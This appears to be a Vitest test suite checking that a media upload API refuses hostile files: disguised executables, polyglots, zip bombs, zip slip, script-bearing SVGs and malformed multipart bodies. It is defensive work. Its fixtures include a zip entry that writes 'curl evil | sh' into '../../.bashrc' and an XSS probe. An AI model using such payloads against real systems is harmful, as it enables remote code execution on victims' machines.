import { connect } from 'node:net';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { startMediaHarness, type MediaHarness, type Part } from './media-harness';
import * as fx from './media-fixtures';

/** `bytes` bytes after a PNG signature, sent as they are made: never held in memory at once. */
async function* streamedPng(bytes: number): AsyncIterable<Buffer> {
  yield (await fx.png()).subarray(0, 33);
  const block = Buffer.alloc(64 * 1024, 0x41);
  for (let sent = 0; sent < bytes; sent += block.length) yield block;
}

const jar = () =>
  fx.zip([
    { name: 'META-INF/MANIFEST.MF', data: Buffer.from('Manifest-Version: 1.0\nMain-Class: Evil\n') },
    { name: 'Evil.class', data: fx.javaClass() },
  ]);

interface HostileCase {
  name: string;
  part: () => Promise<Part> | Part;
  status: number;
  detail?: RegExp;
}

const cases: HostileCase[] = [
  {
    name: 'a Windows executable renamed .png',
    part: () => ({ fileName: 'cute-cat.png', contentType: 'image/png', body: fx.windowsExe() }),
    status: 415,
    detail: /executable/,
  },
  {
    name: 'an ELF binary named .pdf',
    part: () => ({ fileName: 'invoice.pdf', contentType: 'application/pdf', body: fx.elf() }),
    status: 415,
    detail: /executable/,
  },
  {
    name: 'a shebang script named .txt',
    part: () => ({ fileName: 'readme.txt', contentType: 'text/plain', body: fx.SHELL_SCRIPT }),
    status: 415,
    detail: /script/,
  },
  {
    name: 'a JPEG with a zip appended (polyglot)',
    part: async () => ({ fileName: 'photo.jpg', contentType: 'image/jpeg', body: Buffer.concat([await fx.jpegWithGps(64, 64), jar()]) }),
    status: 415,
    detail: /archive appended|after its end/,
  },
  {
    name: 'a JPEG with HTML and script appended',
    part: async () => ({ fileName: 'photo.jpg', contentType: 'image/jpeg', body: Buffer.concat([await fx.jpegWithGps(64, 64), fx.HTML_PAGE]) }),
    status: 415,
    detail: /HTML or script|after its end/,
  },
  {
    name: 'a GIFAR (GIF with a Java archive appended)',
    part: async () => ({ fileName: 'avatar.gif', contentType: 'image/gif', body: Buffer.concat([await fx.gif(), jar()]) }),
    status: 415,
    detail: /archive appended|after its end/,
  },
  {
    name: 'a zip bomb of many highly compressible entries',
    part: () => {
      const zeros = Buffer.alloc(10 * 1024 * 1024);
      return {
        fileName: 'photos.zip',
        contentType: 'application/zip',
        body: fx.zip(Array.from({ length: 20 }, (_, i) => ({ name: `part${i}.bin`, data: zeros }))),
      };
    },
    status: 415,
    detail: /zip bomb/,
  },
  {
    name: 'a zip declaring a huge uncompressed size',
    part: () => ({
      fileName: 'data.zip',
      contentType: 'application/zip',
      body: fx.zip(Array.from({ length: 3 }, (_, i) => ({ name: `f${i}`, data: Buffer.from('x'), declaredSize: 0xfffffff0 }))),
    }),
    status: 415,
    detail: /zip bomb/,
  },
  {
    name: 'a zip whose entries overlap (non-recursive bomb)',
    part: () => ({
      fileName: 'nested.zip',
      contentType: 'application/zip',
      body: fx.zip([{ name: 'a', data: Buffer.alloc(1000, 1) }, ...Array.from({ length: 50 }, (_, i) => ({ name: `b${i}`, sameDataAs: 0 }))]),
    }),
    status: 415,
    detail: /overlap/,
  },
  {
    name: 'a zip that writes outside its folder (zip slip)',
    part: () => ({ fileName: 'theme.zip', contentType: 'application/zip', body: fx.zip([{ name: '../../.bashrc', data: Buffer.from('curl evil | sh') }]) }),
    status: 415,
    detail: /unsafe path/,
  },
  { name: 'zero bytes', part: () => ({ fileName: 'empty.png', contentType: 'image/png', body: Buffer.alloc(0) }), status: 400, detail: /empty/ },
  {
    name: 'an image over the image limit, streamed',
    part: () => ({ fileName: 'huge.png', contentType: 'image/png', body: streamedPng(21 * 1024 * 1024) }),
    status: 413,
    detail: /at most 20 MB/,
  },
  {
    name: 'a PNG named .jpg (wrong extension)',
    part: async () => ({ fileName: 'photo.jpg', contentType: 'image/jpeg', body: await fx.png() }),
    status: 415,
    detail: /\.jpg/,
  },
  { name: 'an SVG with a script', part: () => ({ fileName: 'logo.svg', contentType: 'image/svg+xml', body: fx.SVG_WITH_SCRIPT }), status: 415, detail: /SVG/ },
  { name: 'an SVG named .png', part: () => ({ fileName: 'logo.png', contentType: 'image/png', body: fx.BARE_SVG }), status: 415, detail: /SVG/ },
  {
    name: 'an HTML page named as an image',
    part: () => ({ fileName: 'image.jpg', contentType: 'image/jpeg', body: fx.HTML_PAGE }),
    status: 415,
    detail: /HTML/,
  },
  { name: 'PHP named .jpg', part: () => ({ fileName: 'shell.jpg', contentType: 'image/jpeg', body: fx.PHP_SCRIPT }), status: 415 },
  {
    name: 'JavaScript named .jpg',
    part: () => ({ fileName: 'x.jpg', contentType: 'image/jpeg', body: Buffer.from('alert(document.domain);//') }),
    status: 415,
    detail: /could not be recognised/,
  },
  {
    name: 'a PDF declared as an image',
    part: () => ({ fileName: 'scan.pdf', contentType: 'image/png', body: fx.pdf() }),
    status: 415,
    detail: /declared as image\/png/,
  },
  {
    name: 'a truncated PNG',
    part: async () => ({ fileName: 'cut.png', contentType: 'image/png', body: (await fx.png(300, 300)).subarray(0, 200) }),
    status: 422,
    detail: /truncated/,
  },
  { name: 'an MS-DOS .com program', part: () => ({ fileName: 'game.com', contentType: 'application/octet-stream', body: fx.dosCom() }), status: 415 },
  { name: 'a .bat batch file', part: () => ({ fileName: 'setup.bat', contentType: 'application/x-msdos-program', body: fx.BATCH_FILE }), status: 415 },
  { name: 'a Mach-O binary', part: () => ({ fileName: 'tool', contentType: 'application/octet-stream', body: fx.machO() }), status: 415, detail: /executable/ },
  {
    name: 'a Java class file',
    part: () => ({ fileName: 'Main.class', contentType: 'application/java-vm', body: fx.javaClass() }),
    status: 415,
    detail: /executable|Java/,
  },
  {
    name: 'a TIFF (not on the allow-list)',
    part: async () => ({ fileName: 'scan.tif', contentType: 'image/tiff', body: await fx.tiff() }),
    status: 415,
    detail: /image\/tiff/,
  },
  { name: 'a BMP (not on the allow-list)', part: () => ({ fileName: 'paint.bmp', contentType: 'image/bmp', body: fx.bmp() }), status: 415, detail: /bmp/ },
  {
    name: 'a 100000×100000-pixel PNG (pixel bomb)',
    part: () => ({ fileName: 'bomb.png', contentType: 'image/png', body: fx.pngClaiming(100_000, 100_000) }),
    status: 413,
    detail: /pixels/,
  },
  {
    name: 'text with NUL bytes declared as .txt',
    part: () => ({ fileName: 'notes.txt', contentType: 'text/plain', body: Buffer.from('hello\0world') }),
    status: 415,
    detail: /UTF-8/,
  },
  {
    name: 'Latin-1 text declared as .txt',
    part: () => ({ fileName: 'notes.txt', contentType: 'text/plain', body: Buffer.from('caf\xe9 cr\xe8me', 'latin1') }),
    status: 415,
    detail: /UTF-8/,
  },
];

describe('hostile uploads', () => {
  let h: MediaHarness;
  let token: string;
  beforeAll(async () => {
    h = await startMediaHarness();
    token = h.token('mallory');
  });
  afterAll(async () => h?.close());
  afterEach(async () => {
    expect(await h.storedFiles()).toEqual([]);
    expect(await h.stagedFiles()).toEqual([]);
    expect(await h.mediaRows()).toBe(0);
  });

  it.each(cases)('when $name is uploaded, then it is refused and nothing is stored', async ({ part, status, detail }) => {
    const res = await h.upload(token, await part());
    const body = (await res.json()) as { status: number; detail: string; code: string };
    expect({ status: res.status, detail: body.detail }).toMatchObject({ status });
    expect(res.headers.get('content-type')).toMatch(/^application\/problem\+json/);
    expect(body.status).toBe(status);
    if (detail) expect(body.detail).toMatch(detail);
  });

  it('when the multipart body has no file field, then 400', async () => {
    const res = await h.upload(token, { name: 'other', fileName: 'a.png', contentType: 'image/png', body: await fx.png() });
    expect(res.status).toBe(400);
    expect(((await res.json()) as { code: string }).code).toBe('file_missing');
  });

  it('when the body ends before its multipart closes, then 400', async () => {
    const boundary = 'cut-short';
    async function* body() {
      yield Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="a.png"\r\nContent-Type: image/png\r\n\r\n`);
      yield await fx.png();
    }
    const res = await fetch(`${h.url}/api/v1/media`, {
      method: 'POST',
      headers: { authorization: `Bearer ${token}`, 'content-type': `multipart/form-data; boundary=${boundary}` },
      body: body(),
      duplex: 'half',
    } as unknown as RequestInit);
    expect(res.status).toBe(400);
  });

  it('when the body ends right after a part header, then 400 and the server goes on', async () => {
    const boundary = 'xx';
    const chunk = (text: string) => `${Buffer.byteLength(text).toString(16)}\r\n${text}\r\n`;
    const partHead = `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="e.png"\r\nContent-Type: image/png\r\n\r\n`;
    const request =
      `POST /api/v1/media HTTP/1.1\r\nHost: test\r\nAuthorization: Bearer ${token}\r\nContent-Type: multipart/form-data; boundary=${boundary}\r\n` +
      `Transfer-Encoding: chunked\r\nConnection: close\r\n\r\n${chunk(partHead)}0\r\n\r\n`;
    const answer = await new Promise<string>((resolve, reject) => {
      const socket = connect(Number(new URL(h.url).port), '127.0.0.1', () => socket.write(request));
      let data = '';
      socket.on('data', (d: Buffer) => (data += d.toString()));
      socket.on('close', () => resolve(data));
      socket.on('error', reject);
    });
    expect(answer).toMatch(/^HTTP\/1\.1 400/);
    expect((await h.get('/healthz')).status).toBe(200);
  });

  it('when the body is not multipart, then 415', async () => {
    const res = await fetch(`${h.url}/api/v1/media`, {
      method: 'POST',
      headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
      body: '{}',
    });
    expect(res.status).toBe(415);
  });

  it('when nobody is signed in, then 401', async () => {
    const res = await fetch(`${h.url}/api/v1/media`, { method: 'POST', body: new FormData() });
    expect(res.status).toBe(401);
  });
});
